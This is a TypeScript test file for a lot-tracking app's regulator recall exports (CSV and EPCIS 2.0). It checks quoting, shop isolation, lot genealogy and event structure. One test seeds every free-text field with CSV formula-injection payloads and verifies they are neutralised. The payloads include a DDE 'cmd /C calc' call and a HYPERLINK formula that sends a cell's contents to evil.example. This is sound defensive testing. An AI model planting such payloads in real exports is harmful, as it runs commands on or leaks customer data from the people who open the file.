import { describe, expect, it } from "vitest";
import type { Readable } from "node:stream";
import { pool } from "../../app/db.server";
import { withTransaction } from "../../app/lib/sql.server";
import {
  RECALL_CSV_COLUMNS,
  recallCsvStream,
  recallEpcisStream,
  lotExportScope,
  recallCaseScope,
  exportRecall,
} from "../../app/domain/exports/recall-exports.server";
import { LotNotFoundError, RecallNotFoundError } from "../../app/domain/recall/errors";
import { EPCIS_CONTEXT } from "../../app/domain/exports/epcis";
import { conformingEvents } from "../helpers/epcis-schema";
import { recordProductionRun } from "../../app/domain/genealogy/genealogy.server";
import { openRecall } from "../../app/domain/recall/recall-case.server";
import { createTestShop } from "../helpers/shops";
import { createLocation, createLot, createVariant, newId, shipToCustomer } from "../helpers/factories";
import { useOwnQueuePrefix } from "../helpers/webhook-pipeline";

// Jobs this file queues (outbox sends) go to a prefix of its own, never the default queues.
useOwnQueuePrefix();

async function text(stream: Readable): Promise<string> {
  const chunks: Buffer[] = [];
  for await (const chunk of stream) chunks.push(Buffer.isBuffer(chunk) ? chunk : Buffer.from(chunk));
  return Buffer.concat(chunks).toString("utf8");
}

/** RFC 4180: quoted fields, doubled quotes, commas and newlines inside quotes. */
function parseCsv(input: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < input.length; i++) {
    const c = input[i]!;
    if (quoted) {
      if (c === '"' && input[i + 1] === '"') {
        field += '"';
        i++;
      } else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") {
      row.push(field);
      field = "";
    } else if (c === "\n") {
      row.push(field);
      rows.push(row);
      row = [];
      field = "";
    } else field += c;
  }
  if (field !== "" || row.length > 0) rows.push([...row, field]);
  return rows;
}

async function exportShop(label: string) {
  const shop = await createTestShop(label);
  const honey = await createVariant(shop.id, { sku: "HONEY-250", productTitle: "Forest honey", title: "250 g", barcode: "4006381333931" });
  const kit = await createVariant(shop.id, { sku: "KIT", productTitle: "Breakfast kit", title: "Default Title" });
  const main = await createLocation(shop.id, { name: "Main, Warehouse" });
  const lot = await createLot(shop.id, {
    variantId: honey,
    lotNumber: "L-9",
    quantity: 40,
    locationId: main,
    receivedAt: new Date("2026-11-01T08:00:00Z"),
    expiresOn: "2027-01-31",
    bestBeforeOn: "2026-12-31",
    producedOn: "2026-10-15",
    supplier: 'Acme "Best" Foods',
    supplierLot: "A-77",
    purchaseOrder: "PO-1",
  });
  return { shop, honey, kit, main, lot };
}

describe("regulator exports", () => {
  it("CSV: one row per lot x shipment line, every data element a column, quoted, sorted, formula-safe", async () => {
    const s = await exportShop("export-csv");
    const id = s.shop.id;
    const maria = newId();
    const f1 = newId();
    const f2 = newId();
    const f3 = newId();
    const f4 = newId();
    const a1 = await shipToCustomer(id, {
      name: "#1001",
      customerId: maria,
      customerName: "Maria Lopez",
      customerEmail: "maria@example.com",
      customerPhone: "+15035550142",
      shippingAddress: {
        name: "Maria Lopez",
        address1: "12 Orchard Lane",
        address2: "Apt 3",
        city: "Portland",
        province_code: "OR",
        zip: "97205",
        country_code: "US",
      },
      variantId: s.honey,
      lotId: s.lot,
      locationId: s.main,
      quantity: 3,
      fulfilledAt: new Date("2026-11-20T15:30:00Z"),
      fulfillmentId: f1,
      returnedQuantity: 1,
      returnedAt: new Date("2026-11-24T10:00:00Z"),
    });
    const a2 = await shipToCustomer(id, {
      name: "#1002",
      customerId: newId(),
      customerName: '=HYPERLINK("http://x")',
      customerEmail: "evil@example.com",
      shippingAddress: { address1: "1 Main St, Unit 2", city: "Salem", province_code: "OR", zip: "97301", country_code: "US" },
      variantId: s.honey,
      lotId: s.lot,
      locationId: s.main,
      quantity: 2,
      fulfilledAt: new Date("2026-11-21T09:00:00Z"),
      fulfillmentId: f2,
    });
    const redactedCustomer = newId();
    const a3 = await shipToCustomer(id, {
      name: "#1003",
      customerId: redactedCustomer,
      redacted: true,
      variantId: s.honey,
      lotId: s.lot,
      locationId: s.main,
      quantity: 1,
      fulfilledAt: new Date("2026-11-22T09:00:00Z"),
      fulfillmentId: f3,
    });
    const maybe = await shipToCustomer(id, {
      name: "#1004",
      email: "guest@example.com",
      customerName: "Gus",
      variantId: s.honey,
      lotId: null,
      locationId: s.main,
      quantity: 5,
      fulfilledAt: new Date("2026-11-23T09:00:00Z"),
      fulfillmentId: f4,
    });
    const recall = await openRecall(id, { lots: [{ lotNumber: "L-9" }], reason: "mould", severity: "CLASS_II", reference: "RC-1" });

    const csv = await text(await recallCsvStream(id, (await recallCaseScope(id, recall.id)).lots));
    const rows = parseCsv(csv);
    expect(rows[0]).toEqual([...RECALL_CSV_COLUMNS]);
    const row = (values: Partial<Record<(typeof RECALL_CSV_COLUMNS)[number], string>>) => RECALL_CSV_COLUMNS.map((c) => values[c] ?? "");
    const lotColumns = {
      lot_code: "L-9",
      lot_scope: "recalled lot",
      gtin: "4006381333931",
      sku: "HONEY-250",
      product_description: "Forest honey / 250 g",
      variant_id: String(s.honey),
      expiry_date: "2027-01-31",
      best_before_date: "2026-12-31",
      production_date: "2026-10-15",
      unit_of_measure: "each",
      ship_from_location_id: String(s.main),
      ship_from_location_name: "Main, Warehouse",
      lot_supplier: 'Acme "Best" Foods',
      lot_supplier_lot: "A-77",
      lot_purchase_order: "PO-1",
      lot_receipt_date: "2026-11-01",
      lot_status: "RECALLED",
      recall_references: "RC-1",
    };
    expect(rows.slice(1)).toEqual([
      row({
        ...lotColumns,
        quantity: "3",
        ship_date: "2026-11-20T15:30:00Z",
        customer_id: String(maria),
        recipient_name: "Maria Lopez",
        recipient_address1: "12 Orchard Lane",
        recipient_address2: "Apt 3",
        recipient_city: "Portland",
        recipient_region: "OR",
        recipient_postal_code: "97205",
        recipient_country: "US",
        recipient_email: "maria@example.com",
        recipient_phone: "+15035550142",
        recipient_redacted: "no",
        order_id: String(a1.orderId),
        order_name: "#1001",
        line_item_id: String(a1.lineItemId),
        fulfillment_id: String(f1),
        fulfillment_name: `F-${String(f1).slice(-4)}`,
        returned_quantity: "1",
        returned_date: "2026-11-24",
      }),
      row({
        ...lotColumns,
        quantity: "2",
        ship_date: "2026-11-21T09:00:00Z",
        customer_id: (await pool().query("select customer_id from orders where id = $1", [a2.orderId])).rows[0].customer_id.toString(),
        recipient_name: `'=HYPERLINK("http://x")`,
        recipient_address1: "1 Main St, Unit 2",
        recipient_city: "Salem",
        recipient_region: "OR",
        recipient_postal_code: "97301",
        recipient_country: "US",
        recipient_email: "evil@example.com",
        recipient_redacted: "no",
        order_id: String(a2.orderId),
        order_name: "#1002",
        line_item_id: String(a2.lineItemId),
        fulfillment_id: String(f2),
        fulfillment_name: `F-${String(f2).slice(-4)}`,
        returned_quantity: "0",
      }),
      row({
        ...lotColumns,
        quantity: "1",
        ship_date: "2026-11-22T09:00:00Z",
        customer_id: String(redactedCustomer),
        recipient_redacted: "yes",
        order_id: String(a3.orderId),
        order_name: "#1003",
        line_item_id: String(a3.lineItemId),
        fulfillment_id: String(f3),
        fulfillment_name: `F-${String(f3).slice(-4)}`,
        returned_quantity: "0",
      }),
      row({
        lot_scope: "unknown lot, possibly affected",
        gtin: "4006381333931",
        sku: "HONEY-250",
        product_description: "Forest honey / 250 g",
        variant_id: String(s.honey),
        quantity: "5",
        unit_of_measure: "each",
        ship_date: "2026-11-23T09:00:00Z",
        ship_from_location_id: String(s.main),
        ship_from_location_name: "Main, Warehouse",
        recipient_name: "Gus",
        recipient_email: "guest@example.com",
        recipient_redacted: "no",
        order_id: String(maybe.orderId),
        order_name: "#1004",
        line_item_id: String(maybe.lineItemId),
        fulfillment_id: String(f4),
        fulfillment_name: `F-${String(f4).slice(-4)}`,
        returned_quantity: "0",
        lot_status: "UNKNOWN_LOT",
      }),
    ]);
    // Proper quoting on the wire: the comma-bearing and quote-bearing cells are quoted.
    expect(csv).toContain('"Main, Warehouse"');
    expect(csv).toContain('"Acme ""Best"" Foods"');

    // The download helper gives the same bytes, and never another shop's recall or lot.
    const download = await exportRecall(id, { recallId: recall.id }, "csv");
    expect(download.filename).toMatch(/^recall-RC-1-\d{4}-\d{2}-\d{2}\.csv$/);
    expect(download.contentType).toBe("text/csv; charset=utf-8");
    expect(await text(download.stream)).toBe(csv);
    const other = await createTestShop("export-other");
    await expect(exportRecall(other.id, { recallId: recall.id }, "csv")).rejects.toBeInstanceOf(RecallNotFoundError);
    await expect(exportRecall(other.id, { lotNumber: "L-9" }, "epcis")).rejects.toBeInstanceOf(LotNotFoundError);
  });

  it("CSV: no cell of any free-text column reaches a spreadsheet as a formula (OWASP CSV injection); plain phone numbers stay as they are", async () => {
    const shop = await createTestShop("export-formulas");
    const id = shop.id;
    // Every field a customer, a merchant or Shopify's admin types is a formula payload.
    const variant = await createVariant(id, { sku: "@SUM(1+1)*cmd|' /C calc'!A0", productTitle: "=cmd|' /C calc'!A0", title: "+1", barcode: "-1+2" });
    const place = await createLocation(id, { name: "\t=1+1" });
    const lotNumber = '=HYPERLINK("http://evil.example/?leak="&A2,"click")';
    const lot = await createLot(id, {
      variantId: variant,
      lotNumber,
      quantity: 20,
      locationId: place,
      receivedAt: new Date("2026-11-01T08:00:00Z"),
      supplier: "@supplier",
      supplierLot: "+supplier-lot",
      purchaseOrder: "-PO",
      gtin: "=3+4",
    });
    const address = {
      name: "=name",
      address1: "=1+address",
      address2: "+address2",
      city: "-city",
      province: "@SUM(9)",
      province_code: "",
      zip: "=3+4",
      country: "＝1+1",
      country_code: "",
      phone: "-2+3",
    };
    const shipped = await shipToCustomer(id, {
      name: "=order",
      customerId: newId(),
      customerName: " =1+1",
      customerEmail: "@evil.example",
      customerPhone: '+1+HYPERLINK("http://evil.example")',
      shippingAddress: address,
      variantId: variant,
      lotId: lot,
      locationId: place,
      quantity: 2,
      fulfilledAt: new Date("2026-11-20T10:00:00Z"),
    });
    // Unknown-lot shipment (possibly affected rows): the address phone, and a CR-led name.
    await shipToCustomer(id, {
      name: "\r=order",
      customerName: "\r=1+1",
      email: "=guest",
      shippingAddress: address,
      variantId: variant,
      lotId: null,
      locationId: place,
      quantity: 1,
      fulfilledAt: new Date("2026-11-21T10:00:00Z"),
    });
    // Plain phone numbers are exempt; they are written as typed.
    await shipToCustomer(id, {
      name: "#2",
      customerId: newId(),
      customerName: "Anna",
      customerPhone: "+49 30 1234567",
      variantId: variant,
      lotId: lot,
      locationId: place,
      quantity: 1,
      fulfilledAt: new Date("2026-11-22T10:00:00Z"),
    });
    await shipToCustomer(id, {
      name: "#3",
      customerId: newId(),
      customerName: "Bob",
      customerPhone: "(555) 123-4567",
      variantId: variant,
      lotId: lot,
      locationId: place,
      quantity: 1,
      fulfilledAt: new Date("2026-11-23T10:00:00Z"),
    });
    await pool().query("update fulfillments set name = '@fulfillment' where shop_id = $1", [id]);
    const recall = await openRecall(id, { lots: [{ lotNumber }], reason: "test", severity: "CLASS_I", reference: "=RC+1" });

    const rows = parseCsv(await text(await recallCsvStream(id, (await recallCaseScope(id, recall.id)).lots)));
    expect(rows[0]).toEqual([...RECALL_CSV_COLUMNS]);
    const data = rows
      .slice(1)
      .map((r) => Object.fromEntries(RECALL_CSV_COLUMNS.map((c, i) => [c, r[i]!])) as Record<(typeof RECALL_CSV_COLUMNS)[number], string>);
    expect(data).toHaveLength(4);
    expect(data.map((r) => r.lot_scope)).toEqual(["recalled lot", "recalled lot", "recalled lot", "unknown lot, possibly affected"]);
    const formula = /^([\t\r]|\s*[-=+@＝＋－＠])/;
    const offenders = data.flatMap((r, i) =>
      RECALL_CSV_COLUMNS.filter((c) => formula.test(r[c]) && !["+49 30 1234567", "(555) 123-4567"].includes(r[c])).map(
        (c) => `row ${i + 2} ${c}: ${JSON.stringify(r[c])}`,
      ),
    );
    expect(offenders).toEqual([]);
    // Every free-text column had a payload and kept it, behind the apostrophe.
    const freeText = [
      "lot_code",
      "gtin",
      "sku",
      "product_description",
      "ship_from_location_name",
      "recipient_name",
      "recipient_address1",
      "recipient_address2",
      "recipient_city",
      "recipient_region",
      "recipient_postal_code",
      "recipient_country",
      "recipient_email",
      "recipient_phone",
      "order_name",
      "fulfillment_name",
      "lot_supplier",
      "lot_supplier_lot",
      "lot_purchase_order",
      "recall_references",
    ];
    expect(RECALL_CSV_COLUMNS.filter((c) => data.some((r) => r[c].startsWith("'")))).toEqual(freeText);
    const first = data[0]!;
    expect(first).toMatchObject({
      lot_code: `'${lotNumber}`,
      gtin: "'=3+4",
      sku: "'@SUM(1+1)*cmd|' /C calc'!A0",
      product_description: "'=cmd|' /C calc'!A0 / +1",
      ship_from_location_name: "'\t=1+1",
      recipient_name: "' =1+1",
      recipient_address1: "'=1+address",
      recipient_address2: "'+address2",
      recipient_city: "'-city",
      recipient_region: "'@SUM(9)",
      recipient_postal_code: "'=3+4",
      recipient_country: "'＝1+1",
      recipient_email: "'@evil.example",
      recipient_phone: `'+1+HYPERLINK("http://evil.example")`,
      order_name: "'=order",
      fulfillment_name: "'@fulfillment",
      lot_supplier: "'@supplier",
      lot_supplier_lot: "'+supplier-lot",
      lot_purchase_order: "'-PO",
      recall_references: "'=RC+1",
      order_id: String(shipped.orderId),
      quantity: "2",
    });
    expect(
      data
        .slice(1, 3)
        .map((r) => r.recipient_phone)
        .sort(),
    ).toEqual(["(555) 123-4567", "+49 30 1234567"]);
    expect(data[3]).toMatchObject({ recipient_name: "'\r=1+1", recipient_phone: "'-2+3", gtin: "'-1+2", order_name: "'\r=order", recipient_email: "'=guest" });
  });

  it("CSV of a lookup includes the lots made from the lot; an empty scope is a header only; an aborted stream frees its connection", async () => {
    const s = await exportShop("export-scope");
    const id = s.shop.id;
    const run = await withTransaction((sql) =>
      recordProductionRun(sql, id, {
        kind: "KIT",
        outputVariantId: s.kit,
        outputLotNumber: "K-1",
        quantity: 2,
        locationId: s.main,
        inputs: [{ lotNumber: "L-9", quantity: 2 }],
      }),
    );
    await shipToCustomer(id, { customerId: newId(), customerName: "Kit Buyer", variantId: s.kit, lotId: run.output.lotId, locationId: s.main, quantity: 1 });
    const rows = parseCsv(await text(await recallCsvStream(id, await lotExportScope(id, { lotNumber: "L-9" }))));
    expect(rows.slice(1).map((r) => [r[0], r[1], r[15]])).toEqual([["K-1", "made from recalled lot", "Kit Buyer"]]);
    expect(await text(await recallCsvStream(id, []))).toBe(RECALL_CSV_COLUMNS.join(",") + "\n");
    for (let i = 0; i < 12; i++) {
      const stream = await recallCsvStream(id, await lotExportScope(id, { lotNumber: "L-9" }));
      stream.destroy();
      await new Promise((r) => setImmediate(r));
    }
    const after = await pool().query<{ ok: number }>("select 1 as ok");
    expect(after.rows[0]!.ok).toBe(1);
  });

  it("EPCIS 2.0 JSON-LD parses, carries the GS1 context, and has receipts, transformations, shipments and returns", async () => {
    const s = await exportShop("export-epcis");
    const id = s.shop.id;
    const run = await withTransaction((sql) =>
      recordProductionRun(sql, id, {
        kind: "ASSEMBLY",
        outputVariantId: s.kit,
        outputLotNumber: "K-1",
        quantity: 2,
        locationId: s.main,
        inputs: [{ lotNumber: "L-9", quantity: 4 }],
      }),
    );
    const shipped = await shipToCustomer(id, {
      customerId: newId(),
      variantId: s.honey,
      lotId: s.lot,
      locationId: s.main,
      quantity: 3,
      returnedQuantity: 2,
      fulfilledAt: new Date("2026-11-20T15:30:00Z"),
    });
    await shipToCustomer(id, { customerId: newId(), variantId: s.kit, lotId: run.output.lotId, locationId: s.main, quantity: 1 });
    const exported = await text(await recallEpcisStream(id, await lotExportScope(id, { lotNumber: "L-9" })));
    // Valid against GS1's EPCIS 2.0 JSON Schema, in causal order (test/helpers/epcis-schema.ts).
    conformingEvents(exported);
    const doc = JSON.parse(exported);
    expect(doc["@context"]).toContain(EPCIS_CONTEXT);
    expect(doc).toMatchObject({ type: "EPCISDocument", schemaVersion: "2.0" });
    const events = doc.epcisBody.eventList as Record<string, unknown>[];
    const honeyClass = "https://id.gs1.org/01/04006381333931/10/L-9";
    const kitClass = `https://${s.shop.domain}/lotkeeper/class/${s.kit}/K-1`;
    const receipt = events.find((e) => e.bizStep === "receiving" && e.action === "ADD");
    expect(receipt).toMatchObject({
      type: "ObjectEvent",
      eventTime: "2026-11-01T08:00:00.000Z",
      quantityList: [{ epcClass: honeyClass, quantity: 40 }],
      ilmd: {
        "cbvmda:lotNumber": "L-9",
        "cbvmda:itemExpirationDate": "2027-01-31",
        "cbvmda:bestBeforeDate": "2026-12-31",
        "cbvmda:productionDate": "2026-10-15",
      },
    });
    const transformation = events.find((e) => e.type === "TransformationEvent");
    expect(transformation).toMatchObject({
      bizStep: "creating_class_instance",
      inputQuantityList: [{ epcClass: honeyClass, quantity: 4 }],
      outputQuantityList: [{ epcClass: kitClass, quantity: 2 }],
      ilmd: { "cbvmda:lotNumber": "K-1", "cbvmda:itemExpirationDate": "2027-01-31" },
    });
    const shipments = events.filter((e) => e.bizStep === "shipping");
    expect(shipments.map((e) => (e.quantityList as { epcClass: string; quantity: number }[])[0])).toEqual([
      { epcClass: honeyClass, quantity: 3 },
      { epcClass: kitClass, quantity: 1 },
    ]);
    expect(shipments[0]).toMatchObject({
      action: "OBSERVE",
      disposition: "in_transit",
      bizTransactionList: [
        { type: "po", bizTransaction: `https://${s.shop.domain}/lotkeeper/order/${shipped.orderId}` },
        expect.objectContaining({ type: "desadv" }),
      ],
    });
    const returns = events.filter((e) => e.disposition === "returned");
    expect(returns.map((e) => (e.quantityList as { quantity: number }[])[0]!.quantity)).toEqual([2]);
    for (const e of events) {
      expect(e.eventTimeZoneOffset).toBe("+00:00");
      expect(typeof e.eventTime).toBe("string");
    }
  });
});
